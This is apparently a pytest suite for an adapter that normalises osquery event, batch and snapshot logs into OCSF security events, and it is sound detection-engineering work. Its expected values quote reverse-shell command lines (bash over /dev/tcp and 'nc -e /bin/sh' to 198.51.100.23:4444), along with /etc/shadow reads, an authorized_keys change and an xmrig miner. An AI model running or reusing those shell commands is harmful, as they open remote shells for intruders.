"""osquery results logs (event, batch and snapshot formats) -> Process/Network/File activity.

Every recorded sample under samples/osquery/ must become the events it describes, valid by
OCSF's own schema; numbers as strings and as numbers (``--logger_numerics``) give equal
events; no other source's sample is claimed; and no input makes the adapter raise or hang.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectors import osquery
from collectors.base import Batch, Context
from collectors.model import FileActivity, NetworkActivity, OcsfEvent, ProcessActivity
from collectors.workload import workload_of
from tests.collectors.conftest import ACCOUNT, FUZZ, JSON, REGION, SAMPLES, assert_valid
from tests.collectors.test_falco import (
    CTX,
    check,
    comparable,
    mutate,
    normalize_file,
    numbers_to_strings,
    other_samples,
    own_samples,
    records_of,
    strings_to_numbers,
)

SAMPLES_OSQUERY = own_samples("osquery")
EVENT_FORMAT = "osquery-5.14-differential-event-format.jsonl"
BATCH_FORMAT = "osquery-5.14-differential-batch-format-numerics.jsonl"
SNAPSHOT_FORMAT = "osquery-5.14-snapshot-format.jsonl"
LEGACY = "osquery-3.x-event-format-top-level-decorations.jsonl"
T0 = 1762161600  # 2025-11-03T09:20:00Z, the samples' reference second
EC2 = "ec2:i-0a1b2c3d4e5f67890"


def key_of(event: OcsfEvent) -> str | None:
    w = workload_of(getattr(event, "device", None), ACCOUNT)
    return w.key if w else None


@pytest.mark.parametrize(("name", "record"), SAMPLES_OSQUERY, ids=[n for n, _ in SAMPLES_OSQUERY])
def test_every_sample_is_recognised_and_normalises_to_valid_ocsf(name: str, record: Any) -> None:
    assert osquery.matches(record)
    assert osquery.matches(json.dumps(record))
    batch = osquery.normalize(record, CTX)
    assert not batch.rejects, batch.rejects
    assert batch.events or batch.skipped
    assert_valid(batch)
    for event in batch.events:
        assert event.raw_data
        raw = json.loads(event.raw_data)
        assert raw["name"] == record["name"] and "columns" in raw  # the row, event-format
        assert event.metadata.product.name == "osquery"
        assert event.metadata.uid and event.metadata.log_name == record["name"]
        assert event.cloud.account is not None and event.cloud.account.uid == ACCOUNT


OTHERS = other_samples("osquery")


@pytest.mark.parametrize(("name", "record"), OTHERS, ids=[n for n, _ in OTHERS])
def test_other_sources_samples_are_not_claimed(name: str, record: Any) -> None:
    assert not osquery.matches(record)


def one(record: Any) -> OcsfEvent:
    batch = check(osquery.normalize(record, CTX))
    assert not batch.rejects, batch.rejects
    (event,) = batch.events
    return event


def test_event_format_rows_become_process_network_and_file_activity() -> None:
    events = [
        one(r) if i != 7 else None
        for i, r in enumerate(records_of(SAMPLES / "osquery" / EVENT_FORMAT))
    ]

    shell = events[0]
    assert isinstance(shell, ProcessActivity) and shell.activity_id == ProcessActivity.LAUNCH
    assert shell.process.cmd_line == "bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
    assert shell.process.pid == 23114
    assert shell.process.user is not None and shell.process.user.uid == "33"
    assert shell.process.working_directory == "/var/www/html/uploads"
    assert shell.actor.process is not None and shell.actor.process.pid == 23090
    assert shell.launch_type_id == 3  # execve
    assert shell.time == (T0 + 3) * 1000  # the row's time column, not the log line's
    assert shell.metadata.logged_time == 1762161611000
    assert key_of(shell) == EC2  # the instance_id decoration
    assert shell.device.hostname == "ip-10-0-2-14.eu-west-1.compute.internal"
    assert shell.metadata.product.version == "5.14.1"

    conn = events[1]
    assert isinstance(conn, NetworkActivity) and conn.activity_id == NetworkActivity.OPEN
    assert conn.dst_endpoint is not None
    assert (conn.dst_endpoint.ip, conn.dst_endpoint.port) == ("198.51.100.23", 4444)
    assert conn.connection_info is not None and conn.connection_info.direction_id == 2
    assert conn.actor is not None and conn.actor.process is not None
    assert conn.actor.process.pid == 23114

    imds = events[3]
    assert isinstance(imds, NetworkActivity)
    assert imds.dst_endpoint is not None
    assert (imds.dst_endpoint.ip, imds.dst_endpoint.port) == ("169.254.169.254", 80)

    shadow = events[4]
    assert isinstance(shadow, FileActivity) and shadow.activity_id == FileActivity.READ
    assert shadow.file.path == "/etc/shadow" and shadow.file.hashes is None

    cron = events[5]
    assert isinstance(cron, FileActivity) and cron.activity_id == FileActivity.CREATE
    assert cron.file.path == "/etc/cron.d/php-sessionclean2"
    hashes = {h.algorithm_id: h.value for h in cron.file.hashes or []}
    assert hashes[3] == "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"
    assert cron.file.owner is not None and cron.file.owner.uid == "33"
    assert cron.unmapped is not None and cron.unmapped["columns"]["category"] == "etc"

    keys = events[6]
    assert isinstance(keys, FileActivity)
    assert keys.activity_id == FileActivity.SET_ATTRIBUTES
    assert keys.file.path == "/root/.ssh/authorized_keys"

    listen = events[9]
    assert isinstance(listen, NetworkActivity) and listen.activity_id == NetworkActivity.LISTEN
    assert listen.dst_endpoint is not None
    assert (listen.dst_endpoint.ip, listen.dst_endpoint.port) == ("0.0.0.0", 8080)


def test_removed_rows_are_skipped_and_counted() -> None:
    batch = normalize_file(osquery, EVENT_FORMAT)
    assert batch.skipped == 1 and len(batch.events) == 9
    batch = normalize_file(osquery, BATCH_FORMAT)
    assert batch.skipped == 1  # the logrotate row in diffResults.removed
    assert "logrotate" not in json.dumps([e.to_ocsf() for e in batch.events])


def test_batch_format_with_numerics_on_a_host_named_by_instance_id() -> None:
    batch = normalize_file(osquery, BATCH_FORMAT)
    assert not batch.rejects
    miner, dropper, pool = batch.events
    assert isinstance(miner, ProcessActivity) and isinstance(dropper, ProcessActivity)
    assert miner.process.file is not None and miner.process.file.path == "/tmp/.cache/xmrig"
    assert miner.actor.process is not None and miner.actor.process.pid == 61002
    assert miner.status_id == 1  # bpf exit_code 0
    assert key_of(miner) == "ec2:i-0f1e2d3c4b5a69788"
    assert miner.device.hostname == "build-runner-02"
    assert isinstance(pool, NetworkActivity)
    assert pool.dst_endpoint is not None and pool.dst_endpoint.port == 3333
    assert pool.connection_info is not None
    assert pool.connection_info.protocol_name == "tcp"
    assert pool.connection_info.protocol_ver_id == 4


def test_snapshot_format_and_queries_of_other_tables() -> None:
    sock, os_version, processes = records_of(SAMPLES / "osquery" / SNAPSHOT_FORMAT)
    batch = osquery.normalize(sock, CTX)
    assert batch.skipped == 1  # the UNIX domain socket
    outbound, inbound = batch.events
    assert key_of(outbound) == "host:db-replica-3"
    assert isinstance(inbound, NetworkActivity)
    assert inbound.connection_info is not None and inbound.connection_info.direction_id == 1
    assert inbound.src_endpoint is not None and inbound.src_endpoint.ip == "10.0.7.22"
    assert inbound.dst_endpoint is not None and inbound.dst_endpoint.port == 5432
    # other tables: fine but not ours, even when they look like process rows
    for record, rows in ((os_version, 1), (processes, 2)):
        batch = osquery.normalize(record, CTX)
        assert (batch.events, batch.rejects, batch.skipped) == ([], [], rows)


def test_legacy_lines_with_string_times_and_top_level_decorations() -> None:
    (record,) = records_of(SAMPLES / "osquery" / LEGACY)
    event = one(record)
    assert isinstance(event, ProcessActivity)
    assert key_of(event) == "ec2:i-09f8e7d6c5b4a3921"
    assert event.process.cmd_line == "nc -e /bin/sh 198.51.100.23 4444"
    assert event.actor.process is not None and event.actor.process.pid == 3300


def test_numbers_as_strings_give_equal_events() -> None:
    for name, record in SAMPLES_OSQUERY:
        as_numbers = osquery.normalize(strings_to_numbers(record), CTX)
        as_strings = osquery.normalize(numbers_to_strings(record), CTX)
        assert not as_numbers.rejects and not as_strings.rejects, name
        assert as_numbers.skipped == as_strings.skipped
        assert [comparable(e) for e in as_numbers.events] == [
            comparable(e) for e in as_strings.events
        ], name


@pytest.mark.parametrize(
    ("name", "table", "kind"),
    [
        ("pack_incident-response_process_events", "process_events", "process"),
        ("pack/Global/socket_events", "socket_events", "socket"),
        ("pack_fim_file_events", "file_events", "file"),
        ("bpf_process_events", "bpf_process_events", "process"),
        ("pack_x_bpf_socket_events_5m", "bpf_socket_events", "socket"),
        ("pack_fim_process_file_events", "process_file_events", None),
        ("es_process_events", "es_process_events", None),
        ("my_process_eventsx", None, None),
        ("processes", None, None),
    ],
)
def test_the_table_comes_from_the_query_name(
    name: str, table: str | None, kind: str | None
) -> None:
    assert osquery.table_of(name) == (table, kind)


def test_without_a_table_name_the_row_shape_decides() -> None:
    assert osquery.table_of("q1", {"target_path": "/x", "action": "CREATED"})[1] == "file"
    assert (
        osquery.table_of("q2", {"pid": "1", "path": "/x", "cmdline": "x", "time": "1"})[1]
        == "process"
    )
    assert (
        osquery.table_of("q3", {"action": "connect", "remote_address": "1.1.1.1", "time": "1"})[1]
        == "socket"
    )
    assert osquery.table_of(
        "q4", {"pid": "1", "path": "/x", "cmdline": "x", "start_time": "1"}
    ) == (None, None)


def test_the_host_identity_without_an_instance_id() -> None:
    (record, *_) = records_of(SAMPLES / "osquery" / EVENT_FORMAT)
    record = copy.deepcopy(record)
    del record["decorations"]
    record["hostIdentifier"] = "4c4c4544-0051-3010-8052-b4c04f4e4332"  # --host_identifier=uuid
    event = one(record)
    assert key_of(event) == "host:4c4c4544-0051-3010-8052-b4c04f4e4332"


# --------------------------------------------------------------------------------------------
# Rejects


def first() -> dict[str, Any]:
    record: dict[str, Any] = records_of(SAMPLES / "osquery" / EVENT_FORMAT)[0]
    return record


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        ("{", "not JSON"),
        (7, "expected a JSON object"),
        ({**first(), "name": ""}, "no query name"),
        ({k: v for k, v in first().items() if k not in ("columns", "action")}, "no rows"),
        ({**first(), "action": "changed"}, "action: expected added or removed"),
        (
            {**{k: v for k, v in first().items() if k != "columns"}, "diffResults": []},
            "diffResults: expected an object",
        ),
        (
            {**{k: v for k, v in first().items() if k != "columns"}, "snapshot": {}},
            "snapshot: expected a list",
        ),
        ({**first(), "columns": {**first()["columns"], "pid": "12ab"}}, "pid: expected a number"),
        ({**first(), "columns": {**first()["columns"], "pid": ""}}, "row without a pid"),
        ({**first(), "decorations": [1]}, "decorations: expected an object"),
        ({**first(), "unixTime": "soon"}, "unixTime: expected a number"),
    ],
)
def test_unusable_records_are_rejected_with_a_reason(record: Any, reason: str) -> None:
    batch = check(osquery.normalize(record, CTX))
    assert not batch.events
    assert len(batch.rejects) == 1
    assert reason in batch.rejects[0].reason, batch.rejects[0].reason


def test_a_record_without_a_host_identity_is_rejected() -> None:
    record = {k: v for k, v in first().items() if k not in ("hostIdentifier", "decorations")}
    batch = check(osquery.normalize(record, CTX))
    assert "no host identity" in batch.rejects[0].reason


def test_a_row_without_any_time_is_rejected() -> None:
    record = copy.deepcopy(first())
    for key in ("unixTime", "calendarTime"):
        del record[key]
    del record["columns"]["time"]
    batch = check(osquery.normalize(record, CTX))
    assert "no usable time" in batch.rejects[0].reason
    record["calendarTime"] = "Mon Nov  3 09:20:11 2025 UTC"
    assert one(record).time == 1762161611000


def test_bad_rows_do_not_lose_the_good_ones() -> None:
    record = copy.deepcopy(records_of(SAMPLES / "osquery" / BATCH_FORMAT)[0])
    record["diffResults"]["added"].insert(1, "not a row")
    record["diffResults"]["added"].append({**record["diffResults"]["added"][0], "remote_port": 1})
    record["diffResults"]["added"][0]["pid"] = {"x": 1}
    batch = check(osquery.normalize(record, CTX))
    assert len(batch.events) == 2
    assert sorted(r.where for r in batch.rejects) == [
        "diffResults.added[0]",
        "diffResults.added[1]",
    ]


# --------------------------------------------------------------------------------------------
# Fuzz


@FUZZ
@given(st.one_of(JSON, st.text(max_size=300)))
def test_fuzz_arbitrary_json(value: Any) -> None:
    check(osquery.normalize(value, CTX))
    osquery.matches(value)


@FUZZ
@given(data=st.data())
def test_fuzz_mutated_samples(data: st.DataObject) -> None:
    _, record = data.draw(st.sampled_from(SAMPLES_OSQUERY))
    mutated = mutate(data, record)
    osquery.matches(mutated)
    check(osquery.normalize(mutated, CTX))


COLUMNS = [
    "pid", "path", "cmdline", "cwd", "uid", "euid", "auid", "parent", "time", "syscall",
    "exit_code", "action", "family", "remote_address", "local_address", "remote_port",
    "local_port", "protocol", "status", "success", "target_path", "md5", "sha256", "size",
    "inode", "mtime",
]  # fmt: skip


@FUZZ
@given(
    st.sampled_from(["process_events", "socket_events", "file_events", "q"]),
    st.dictionaries(
        st.sampled_from(COLUMNS),
        JSON
        | st.sampled_from(
            [
                "",
                "-1",
                "0",
                "4294967295",
                "10.0.0.1",
                "::1",
                "CREATED",
                "connect",
                "bind",
                "2",
                "10",
                "1",
            ]
        ),
    ),
)
def test_fuzz_rows(table: str, row: dict[str, Any]) -> None:
    record = {**first(), "name": f"pack_p_{table}", "columns": row}
    batch = check(osquery.normalize(record, Context(account=ACCOUNT, region=REGION)))
    assert len(batch.events) + len(batch.rejects) + batch.skipped == 1


def test_fuzz_helpers_cover_the_batch_size_bound() -> None:
    record = copy.deepcopy(records_of(SAMPLES / "osquery" / BATCH_FORMAT)[0])
    record["diffResults"]["added"] = [{"pid": 1}] * 20_001
    batch = check(osquery.normalize(record, CTX))
    assert batch.rejects and "rows, over" in batch.rejects[0].reason
    assert isinstance(batch, Batch)
